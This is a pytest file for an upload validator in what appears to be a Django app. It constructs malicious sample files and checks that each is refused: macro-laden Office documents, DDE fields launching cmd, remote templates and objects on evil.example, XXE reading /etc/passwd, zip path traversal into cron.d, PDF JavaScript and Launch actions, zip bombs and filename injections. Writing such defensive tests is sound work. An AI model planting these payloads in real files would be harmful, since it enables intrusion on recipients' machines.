"""What no file from outside may hold: real files, made here, each with one thing wrong. They go in by every door."""

import io
import zipfile
import zlib

import pypdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from docx import Document
from openpyxl import Workbook

from recommendations import pdf_scripts, uploads
from recommendations.minutes import sources
from recommendations.minutes.refusals import Unreadable
from recommendations.models.files import shown_name, validate_attachment
from recommendations.old_trackers import sheets

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"


def saved(thing):
    content = io.BytesIO()
    (thing.write if isinstance(thing, pypdf.PdfWriter) else thing.save)(content)
    return content.getvalue()


def word():
    document = Document()
    document.add_paragraph("Recommendations: 1. That officers review the guidance.")
    return saved(document)


def excel():
    book = Workbook()
    book.active.append(["Reference", "Recommendation"])
    book.active.append(["R1/26", "That officers review the guidance."])
    return saved(book)


def open_document(**parts):
    return archive({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<a/>"} | parts)


def archive(parts):
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as made:
        for name, part in parts.items():
            made.writestr(name, part)
    return content.getvalue()


def changed(data, **parts):
    """The archive with these parts put in or in place of what was there; `__` in a name is a slash, `_` a dot."""
    with zipfile.ZipFile(io.BytesIO(data)) as read:
        kept = {name: read.read(name) for name in read.namelist()}
    return archive(kept | {name.replace("__", "/").replace("_", "."): part for name, part in parts.items()})


def related(kind, target, mode="External"):
    line = f'<Relationship Id="r1" Type="{RELATION}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return changed(word(), word___rels__settings_xml_rels=f'<Relationships xmlns="{RELATIONS}">{line}</Relationships>')


def locked(data):
    """With the mark of a password on every part."""
    marked = bytearray(data)
    place = marked.find(b"PK\x01\x02")
    while place >= 0:
        marked[place + 8] |= 1
        place = marked.find(b"PK\x01\x02", place + 4)
    return bytes(marked)


def wide(name):
    return name.encode("utf-16-le")


def pdf(change=None):
    writer = pypdf.PdfWriter()
    writer.add_blank_page(200, 200)
    if change:
        change(writer)
    return saved(writer)


def packed_script():
    """As it stands in a packed stream of objects, its name in numbers."""
    objects = zlib.compress(b"4 0 <</S /J#61vaScript /J#53 (app.alert\\(1\\))>>")
    return b"%PDF-1.7\n1 0 obj <</Type /ObjStm /Filter /FlateDecode>>\nstream\n" + objects + b"\nendstream\n%%EOF"


def field(words):
    with zipfile.ZipFile(io.BytesIO(word())) as read:
        body = read.read("word/document.xml").decode()
    run = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in words)
    return changed(word(), word__document_xml=body.replace("<w:p>", f"<w:p>{run}", 1))


KINDS_OF_MACROS = (
    '<Types><Override PartName="/x" ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/></Types>'
)
MACROS = {
    "a part with macros": changed(word(), word__vbaProject_bin=b"x"),
    "its content type in other letters": archive({"[Content_Types].xml": KINDS_OF_MACROS, "word/document.xml": "<a/>"}),
    "a relation to macros": related("vbaProject", "data.txt", "Internal"),
    "macros under another name": changed(word(), word__media__image1_png=OLE + wide("_VBA_PROJECT")),
    "macros in an Excel sheet within": changed(word(), word__embeddings__a_xlsx=changed(excel(), xl__vbaProject_bin=b"x")),
    "macros of Excel 4": changed(excel(), xl__macrosheets__sheet1_xml="<a/>"),
    "an old workbook": OLE + wide("Workbook") + wide("_VBA_PROJECT"),
    "OpenDocument's own": open_document(**{"Basic/Standard/Module1.xml": "<a/>"}),
    "a button of OpenDocument's": open_document(**{"content.xml": "<a>" + " " * 5000 + "<b c='vnd.sun.star.script:d'/></a>"}),
}  # fmt: skip
LOCKED = {
    "Word's lock": OLE + wide("EncryptionInfo") + wide("EncryptedPackage"),
    "an archive's": locked(word()),
    "OpenDocument's": open_document(**{"META-INF/manifest.xml": "<a><encryption-data/></a>"}),
}
PROGRAMS = {
    "a program within": changed(word(), word__media__image1_png=b"MZ\x90\x00"),
    "a program by its name": changed(word(), word__embeddings__run_exe=b"x"),
    "a packed file within": changed(word(), word__embeddings__o_bin=OLE + wide("\x01Ole10Native")),
    "a control": changed(word(), word__activeX__activeX1_xml="<a/>"),
    "a field that starts one": field(["DDEA", "UTO c:\\cmd"]),
    "such a field in numbers": field(["&#68;DEAUTO cmd"]),
    "a link that starts one": changed(
        excel(), xl__externalLinks__externalLink1_xml="<a><ddeLink ddeService='cmd'/></a>"
    ),
}
ELSEWHERE = {
    "a template": related("attachedTemplate", "https://evil.example/a.dotm"),
    "a template in a folder of others": related("attachedTemplate", "file:///\\\\evil.example\\a.dotm"),
    "a picture": related("image", "https://evil.example/a.png"),
    "an object": related("oleObject", "mhtml:https://evil.example!x"),
    "a frame": related("frame", "//evil.example/a>b"),
}
DAMAGED = {
    "entities": changed(word(), word__document_xml='<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
    "entities among relations": changed(word(), _rels___rels='<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'),
    "letters of two bytes": changed(word(), word__document_xml='<!DOCTYPE a><a/>'.encode("utf-16")),
    "a way out of its folder": archive({"[Content_Types].xml": "<a/>", "../../etc/cron.d/x": ""}),
    "half of it": word()[:2000],
}  # fmt: skip
PICTURE = b"\x89PNG\r\n\x1a\n" + bytes(40)
TWO_IN_ONE = {
    "a page in a picture": PICTURE + b"<script >alert(1)</script>",
    "an archive behind a picture": PICTURE + word(),
    "a PDF in a picture": PICTURE + b"%PDF-1.7",
    "an archive behind a PDF": pdf() + word(),
}
SCRIPTS = {
    "a script": b"%PDF-1.7\n1 0 obj <</OpenAction <</S /JavaScript /JS (app.alert\\(1\\))>>>>\n%%EOF",
    "a script that is packed": packed_script(),
    "a program that is started": b"%PDF-1.7\n1 0 obj <</OpenAction <</S /Launch /F (cmd.exe)>>>>\n%%EOF",
}
PDF_LOCKED = {"a PDF": pdf(lambda writer: writer.encrypt("secret", algorithm="AES-256"))}
BOMBS = {
    "noughts": archive({"[Content_Types].xml": "<a/>", "a.xml": bytes(uploads.MOST_UNPACKED)}),
    "many parts": archive({f"{number}.xml": "" for number in range(uploads.MOST_PARTS + 1)}),
    "one in another": changed(word(), a_zip=changed(word(), a_zip=changed(word(), a_zip=archive({"b": ""})))),
}
GROUPS = [
    (MACROS, uploads.MACROS), (LOCKED | PDF_LOCKED, uploads.LOCKED), (PROGRAMS, uploads.PROGRAM), (DAMAGED, uploads.DAMAGED),
    (ELSEWHERE, uploads.ELSEWHERE), (TWO_IN_ONE, uploads.TWO_IN_ONE), (SCRIPTS, uploads.SCRIPT), (BOMBS, uploads.BOMB),
]  # fmt: skip
CASES = {f"{sentence[:30]}… {name}": (data, sentence) for group, sentence in GROUPS for name, data in group.items()}


@pytest.mark.parametrize("case", CASES)
def test_what_no_file_may_hold_is_refused_in_one_sentence(case):
    data, sentence = CASES[case]
    assert uploads.why_refused(data) == sentence


@pytest.mark.parametrize(
    "data",
    [word(), excel(), pdf(), PICTURE, b"MZ Consulting wrote: 1. Review.", b"a,b\n1,2\n", open_document()],
    ids=["Word", "Excel", "PDF", "picture", "words", "values", "OpenDocument"],
)
def test_an_honest_file_is_taken(data):
    assert uploads.why_refused(data) == ""


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("hyperlink", "https://www.example.org/"),
        ("attachedTemplate", "file:///C:\\Users\\ruth\\Templates\\Minutes.dotx"),
        ("externalLinkPath", "https://council.example/old.xlsx"),
    ],
)
def test_what_asks_first_or_stays_at_home_is_no_harm(kind, target):
    assert uploads.why_refused(related(kind, target)) == ""


def test_a_workbook_within_a_letter_is_no_harm():
    assert uploads.why_refused(changed(word(), word__embeddings__a_xlsx=excel())) == ""


def test_pages_of_a_pdf_are_not_taken_for_its_objects():
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(pdf()))
    writer.pages[0].compress_content_streams()
    assert not pdf_scripts.has_script(saved(writer))


@pytest.mark.parametrize(("limit", "most"), [("MOST_STREAMS", 0), ("MOST_INFLATED", 0)])
def test_a_pdf_is_unpacked_within_measure(monkeypatch, limit, most):
    monkeypatch.setattr(pdf_scripts, limit, most)
    assert not pdf_scripts.has_script(packed_script())


def test_a_long_stream_of_objects_is_read_to_its_end():
    objects = b"4 0 <<" + b"a" * 300_000 + b"/JavaScript >>"
    stream = b"%PDF-1.7\nstream\n" + zlib.compress(objects, 0) + b"endstream"
    assert pdf_scripts.has_script(stream)


# The doors


def ending_of(data):
    if data.startswith(b"PK"):
        return ".ods" if b"opendocument" in data[:200] else ".xlsx" if b"xl/workbook" in data else ".docx"
    return next(
        (ending for start, ending in ((b"%PDF", ".pdf"), (b"\x89PNG", ".png")) if data.startswith(start)), ".txt"
    )


@pytest.mark.parametrize("case", CASES)
def test_no_such_file_is_attached(case):
    data, sentence = CASES[case]
    with pytest.raises(ValidationError) as refusal:
        validate_attachment(SimpleUploadedFile(f"report{ending_of(data)}", data))
    assert refusal.value.message == sentence


@pytest.mark.parametrize("case", MACROS | LOCKED)
def test_no_such_file_is_read_as_minutes_or_as_a_tracker(case):
    data, sentences = (MACROS | LOCKED)[case], {uploads.MACROS, uploads.LOCKED}
    for read in (sources.lines_of, sheets.tables_of):
        with pytest.raises(Unreadable) as refusal:
            read(data)
        assert str(refusal.value) in sentences


@pytest.mark.parametrize(
    ("name", "data"),
    [("a.xlsx", word()), ("a.docx", excel()), ("a.odt", open_document()), ("a.pptx", archive({"a": ""}))],
)
def test_a_file_is_what_its_ending_says(name, data):
    with pytest.raises(ValidationError, match="not a real"):
        validate_attachment(SimpleUploadedFile(name, data))


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("../../etc/passwd.txt", "passwd.txt"),
        ("C:\\Users\\ruth\\a.txt", "a.txt"),
        ("a\r\nSet-Cookie: b.txt", "aSet-Cookie: b.txt"),
        ("report\u202efdp.txt", "reportfdp.txt"),
        ("a\x00b.txt", "ab.txt"),
    ],
)
def test_a_name_is_shown_without_folders_and_without_what_is_not_seen(name, shown):
    assert shown_name(name) == shown
